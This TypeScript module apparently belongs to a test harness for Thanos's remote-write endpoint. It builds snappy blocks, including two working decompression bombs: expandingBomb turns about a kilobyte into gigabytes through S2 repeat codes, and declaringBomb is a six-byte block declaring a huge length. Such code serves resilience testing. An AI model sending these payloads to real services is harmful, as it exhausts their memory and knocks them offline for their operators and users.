import { varint } from "./write-request.js";

/** Largest length that a block's header can declare for Thanos's decoder: 32 bits. */
export const LARGEST_BLOCK = 0xffff_ffff;

/** A snappy block holding `content` as it is: every decoder reads it, nothing is compressed. */
export function snappyLiteral(content: Buffer): Buffer {
  return Buffer.concat([snappyLiteralHeader(content.length), content]);
}

/** What stands before `length` bytes to make them a snappy block, for bodies too large to build in memory. */
export function snappyLiteralHeader(length: number): Buffer {
  return Buffer.concat([varint(length), length === 0 ? Buffer.alloc(0) : literalTag(length)]);
}

function literalTag(length: number): Buffer {
  const fourByteLength = Buffer.alloc(5);
  fourByteLength[0] = 63 << 2;
  fourByteLength.writeUInt32LE(length - 1, 1);
  return fourByteLength;
}

/** Shortest and longest run that one five-byte repeat of S2 makes. */
const REPEAT = { least: 65_536 + 4, most: 65_536 + 0xff_ffff + 4 };

/** What literal and first copy of a bomb make, before the repeats. */
const SEED = 1 + 4;

/**
 * A block of about a kilobyte that a decoder expands to `length` bytes, all of them written. Thanos decodes snappy with
 * an S2 decoder, and S2's repeats expand three million times; those of plain snappy only twenty-one times.
 *
 * @throws RangeError where the length cannot be made of whole repeats or is more than a header can declare.
 */
export function expandingBomb(length: number): Buffer {
  if (length > LARGEST_BLOCK) throw new RangeError(`a block declares at most ${LARGEST_BLOCK} bytes, not ${length}`);
  const runs = Math.ceil((length - SEED) / REPEAT.most);
  const shortest = Math.floor((length - SEED) / Math.max(runs, 1));
  if (shortest < REPEAT.least) throw new RangeError(`a bomb is at least ${REPEAT.least + SEED} bytes, not ${length}`);
  const longer = length - SEED - shortest * runs;
  const repeats = Array.from({ length: runs }, (_, index) => repeat(index < longer ? shortest + 1 : shortest));
  const literal = Buffer.from([0 << 2, 0]);
  const copyOfFourFromOneBack = Buffer.from([1, 1]);
  return Buffer.concat([varint(length), literal, copyOfFourFromOneBack, ...repeats]);
}

function repeat(length: number): Buffer {
  const code = Buffer.alloc(5);
  code[0] = (7 << 2) | 1;
  code.writeUIntLE(length - REPEAT.least, 2, 3);
  return code;
}

/** A block of six bytes whose header declares `length` bytes that never come; the decoder reserves them all the same. */
export function declaringBomb(length: number): Buffer {
  return Buffer.concat([varint(length), Buffer.from([0])]);
}
